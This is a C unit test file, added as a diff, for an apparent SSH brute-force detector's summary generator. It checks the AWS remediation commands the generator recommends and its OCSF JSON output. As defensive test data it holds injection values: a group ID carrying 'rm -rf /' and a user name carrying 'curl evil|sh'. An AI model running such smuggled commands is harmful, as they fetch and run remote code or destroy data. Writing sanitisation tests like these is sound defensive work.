@@ -1,0 +1,247 @@
+/* test_summary.c - the built-in summary: the commands it recommends must be
+ * correct (NACL deny to block, authorize before revoke), never target a
+ * private or allow-listed source, and never paste attacker text into a
+ * shell. The OCSF finding must be valid JSON with the fields SOC tools read. */
+#include <json-c/json.h>
+#include <stdio.h>
+
+#include "ag_test.h"
+#include "engine/finding.h"
+#include "filters/addr.h"
+#include "sinks/escape.h"
+#include "sinks/ocsf.h"
+#include "sinks/summary.h"
+
+static void make_finding(struct ag_finding *f, enum ag_rule rule, const char *key)
+{
+    memset(f, 0, sizeof *f);
+    strcpy(f->uid, "0123456789abcdef0123456789abcdef");
+    f->activity = AG_ACTIVITY_CREATE;
+    f->rule = (uint8_t)rule;
+    f->severity = AG_SEV_HIGH;
+    f->rule_name = ag_rule_name(rule);
+    f->title = "SSH brute force";
+    f->technique_id = "T1110.001";
+    f->technique_name = "Password Guessing";
+    f->tactic_id = "TA0006";
+    f->tactic_name = "Credential Access";
+    f->threshold = 6;
+    f->observed = 57;
+    f->window_s = 60;
+    f->time_ms = 1735689900000LL;
+    f->created_ms = f->time_ms;
+    f->first_seen_ms = 1735689600000LL;
+    f->last_seen_ms = f->time_ms;
+    f->counts.failures = 57;
+    snprintf(f->key, sizeof f->key, "%s", key);
+    if (ag_addr_parse(key, strlen(key), &f->key_addr) == 0) {
+        f->key_kind = AG_KEY_SRC;
+    } else {
+        f->key_kind = AG_KEY_USER;
+        f->key_addr.af = AG_AF_NONE;
+    }
+    strcpy(f->users[0], "admin");
+    strcpy(f->users[1], "root");
+    f->n_users = 2;
+    strcpy(f->hosts[0], "web-1");
+    f->n_hosts = 1;
+}
+
+static char *build(const struct ag_finding *f, const struct ag_summary_config *cfg)
+{
+    char *s = ag_summary_build(f, cfg, NULL);
+    ck_assert_ptr_nonnull(s);
+    return s;
+}
+
+START_TEST(public_source_gets_nacl_deny_not_sg_revoke)
+{
+    struct ag_finding f;
+    struct ag_summary_config cfg;
+    ag_summary_config_defaults(&cfg);
+    make_finding(&f, AG_RULE_BRUTEFORCE, "203.0.113.45");
+    char *s = build(&f, &cfg);
+    ck_assert_ptr_nonnull(strstr(s, "Key findings\n"));
+    ck_assert_ptr_nonnull(strstr(s, "Recommended actions\n"));
+    ck_assert_ptr_nonnull(strstr(s, "Further recommendations\n"));
+    ck_assert_ptr_nonnull(strstr(s, "aws ec2 create-network-acl-entry --network-acl-id \"$ACL\" "
+                                    "--ingress --rule-number 90 --protocol -1 --rule-action deny "
+                                    "--cidr-block 203.0.113.45/32"));
+    ck_assert_ptr_nonnull(strstr(s, "Values=<subnet-id>"));
+    /* a security-group revoke of the attacker's /32 does nothing: never advise it */
+    ck_assert_ptr_null(strstr(s, "--cidr 203.0.113.45"));
+    ck_assert_ptr_nonnull(strstr(s, "57 authentication failures in 1 min (threshold 6)"));
+    ck_assert_ptr_nonnull(strstr(s, "admin, root"));
+    free(s);
+}
+END_TEST
+
+START_TEST(restrict_ssh_authorizes_before_revoking_both_families)
+{
+    struct ag_finding f;
+    struct ag_summary_config cfg;
+    struct ag_instance_ctx in;
+    memset(&in, 0, sizeof in);
+    strcpy(in.subnet_id, "subnet-0abc");
+    strcpy(in.security_groups[0], "sg-0abc");
+    strcpy(in.security_groups[1], "sg-bad;rm -rf /");
+    in.n_security_groups = 2;
+    ag_summary_config_defaults(&cfg);
+    cfg.instance = &in;
+    cfg.trusted_ssh_cidr = "198.51.100.0/24";
+    make_finding(&f, AG_RULE_BRUTEFORCE, "203.0.113.45");
+    char *s = build(&f, &cfg);
+    const char *auth = strstr(s, "authorize-security-group-ingress --group-id sg-0abc");
+    const char *rev4 = strstr(s, "revoke-security-group-ingress --group-id sg-0abc --protocol "
+                                 "tcp --port 22 --cidr 0.0.0.0/0");
+    const char *rev6 = strstr(s, "Ipv6Ranges=[{CidrIpv6=::/0}]");
+    ck_assert_ptr_nonnull(auth);
+    ck_assert_ptr_nonnull(rev4);
+    ck_assert_ptr_nonnull(rev6);
+    ck_assert(auth < rev4 && rev4 < rev6);
+    ck_assert_ptr_nonnull(strstr(s, "CidrIp=198.51.100.0/24"));
+    ck_assert_ptr_nonnull(strstr(s, "Values=subnet-0abc"));
+    /* a malformed id never reaches a command */
+    ck_assert_ptr_null(strstr(s, "rm -rf"));
+    ck_assert_ptr_nonnull(strstr(s, "--group-id <sg-id>"));
+    free(s);
+}
+END_TEST
+
+START_TEST(private_and_allowlisted_sources_are_never_blocked)
+{
+    struct ag_finding f;
+    struct ag_summary_config cfg;
+    struct ag_cidr allow;
+    ag_summary_config_defaults(&cfg);
+    const char *priv[] = {"10.1.2.3", "192.168.1.9", "172.16.0.1", "127.0.0.1", "fd00::1"};
+    for (size_t i = 0; i < sizeof priv / sizeof priv[0]; i++) {
+        make_finding(&f, AG_RULE_BRUTEFORCE, priv[i]);
+        char *s = build(&f, &cfg);
+        ck_assert_msg(strstr(s, "create-network-acl-entry") == NULL, "%s blocked", priv[i]);
+        ck_assert_ptr_nonnull(strstr(s, "Do not block"));
+        free(s);
+    }
+    ck_assert_int_eq(ag_cidr_parse("198.51.100.0/24", 15, &allow), 0);
+    cfg.allowlist = &allow;
+    cfg.n_allowlist = 1;
+    make_finding(&f, AG_RULE_BRUTEFORCE, "198.51.100.77");
+    char *s = build(&f, &cfg);
+    ck_assert_ptr_null(strstr(s, "create-network-acl-entry"));
+    free(s);
+}
+END_TEST
+
+START_TEST(ipv6_prefix_uses_ipv6_cidr_block)
+{
+    struct ag_finding f;
+    struct ag_summary_config cfg;
+    ag_summary_config_defaults(&cfg);
+    make_finding(&f, AG_RULE_BRUTEFORCE, "2001:db8:1:2::");
+    f.key_kind = AG_KEY_SRC64;
+    char *s = build(&f, &cfg);
+    ck_assert_ptr_nonnull(strstr(s, "--ipv6-cidr-block 2001:db8:1:2::/64"));
+    free(s);
+}
+END_TEST
+
+START_TEST(hostile_user_name_never_reaches_a_command)
+{
+    struct ag_finding f;
+    struct ag_summary_config cfg;
+    ag_summary_config_defaults(&cfg);
+    make_finding(&f, AG_RULE_COMPROMISE, "203.0.113.45");
+    strcpy(f.users[1], "x';curl evil|sh;'\x1b[2J");
+    char *s = build(&f, &cfg);
+    ck_assert_ptr_nonnull(strstr(s, "sudo loginctl terminate-user <user>"));
+    ck_assert_ptr_null(strstr(s, "curl evil|sh;'"));  /* only ever shown escaped in the list */
+    ck_assert_ptr_null(strchr(s, 0x1b));
+    ck_assert_ptr_nonnull(strstr(s, "SUCCEEDED"));
+    free(s);
+    strcpy(f.users[1], "deploy");
+    s = build(&f, &cfg);
+    ck_assert_ptr_nonnull(strstr(s, "sudo loginctl terminate-user 'deploy'"));
+    ck_assert_ptr_nonnull(strstr(s, "sudo usermod --lock --expiredate 1 'deploy'"));
+    free(s);
+}
+END_TEST
+
+START_TEST(validators)
+{
+    ck_assert(ag_summary_user_is_safe("deploy-1.x_y"));
+    ck_assert(!ag_summary_user_is_safe("-rf"));
+    ck_assert(!ag_summary_user_is_safe("a b"));
+    ck_assert(!ag_summary_user_is_safe(""));
+    ck_assert(!ag_summary_user_is_safe("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"));
+    ck_assert(ag_summary_aws_id_ok("sg-0abc123", "sg-"));
+    ck_assert(!ag_summary_aws_id_ok("sg-", "sg-"));
+    ck_assert(!ag_summary_aws_id_ok("sg-0ABC", "sg-"));
+    ck_assert(!ag_summary_aws_id_ok("acl-0abc", "sg-"));
+}
+END_TEST
+
+START_TEST(ocsf_finding_is_valid_and_complete)
+{
+    static char mem[1 << 18];
+    struct ag_finding f;
+    struct ag_summary_config cfg;
+    ag_summary_config_defaults(&cfg);
+    make_finding(&f, AG_RULE_BRUTEFORCE, "203.0.113.45");
+    f.n_samples = 1;
+    f.samples[0].time_ms = f.time_ms;
+    f.samples[0].kind = AG_EV_INVALID_USER;
+    strcpy(f.samples[0].text, "Failed password for invalid user \"a\\b from 1.2.3.4");
+    f.samples[0].len = (uint16_t)strlen(f.samples[0].text);
+    char *rem = NULL;
+    f.summary = ag_summary_build(&f, &cfg, &rem);
+    strcpy(f.summary_source, "local");
+    struct ag_buf b;
+    ag_buf_init(&b, mem, sizeof mem);
+    struct ag_ocsf_ctx ctx = {.product_version = "0.1.0"};
+    ag_ocsf_finding(&b, &f, &ctx, rem);
+    ck_assert_int_eq(b.overflow, 0);
+    json_object *o = json_tokener_parse(ag_buf_cstr(&b)), *v, *fi;
+    ck_assert_msg(o != NULL, "invalid JSON: %s", mem);
+    ck_assert(json_object_object_get_ex(o, "class_uid", &v));
+    ck_assert_int_eq(json_object_get_int(v), 2004);
+    ck_assert(json_object_object_get_ex(o, "type_uid", &v));
+    ck_assert_int_eq(json_object_get_int(v), 200401);
+    ck_assert(json_object_object_get_ex(o, "finding_info", &fi));
+    ck_assert(json_object_object_get_ex(fi, "uid", &v));
+    ck_assert_str_eq(json_object_get_string(v), f.uid);
+    ck_assert(json_object_object_get_ex(fi, "desc", &v));
+    ck_assert_str_eq(json_object_get_string(v), f.summary);
+    ck_assert(json_object_object_get_ex(o, "remediation", &v));
+    ck_assert(json_object_object_get_ex(v, "desc", &v));
+    ck_assert_ptr_nonnull(strstr(json_object_get_string(v), "Block 203.0.113.45/32"));
+    json_object_put(o);
+
+    f.activity = AG_ACTIVITY_UPDATE;
+    ag_buf_reset(&b);
+    ag_ocsf_finding(&b, &f, &ctx, NULL);
+    o = json_tokener_parse(ag_buf_cstr(&b));
+    ck_assert_ptr_nonnull(o);
+    ck_assert(json_object_object_get_ex(o, "type_uid", &v));
+    ck_assert_int_eq(json_object_get_int(v), 200402);
+    json_object_put(o);
+    free(rem);
+    ag_finding_release(&f);
+}
+END_TEST
+
+static Suite *suite(void)
+{
+    Suite *s = suite_create("summary");
+    TCase *tc = tcase_create("summary");
+    tcase_add_test(tc, public_source_gets_nacl_deny_not_sg_revoke);
+    tcase_add_test(tc, restrict_ssh_authorizes_before_revoking_both_families);
+    tcase_add_test(tc, private_and_allowlisted_sources_are_never_blocked);
+    tcase_add_test(tc, ipv6_prefix_uses_ipv6_cidr_block);
+    tcase_add_test(tc, hostile_user_name_never_reaches_a_command);
+    tcase_add_test(tc, validators);
+    tcase_add_test(tc, ocsf_finding_is_valid_and_complete);
+    suite_add_tcase(s, tc);
+    return s;
+}
+
+AG_TEST_MAIN
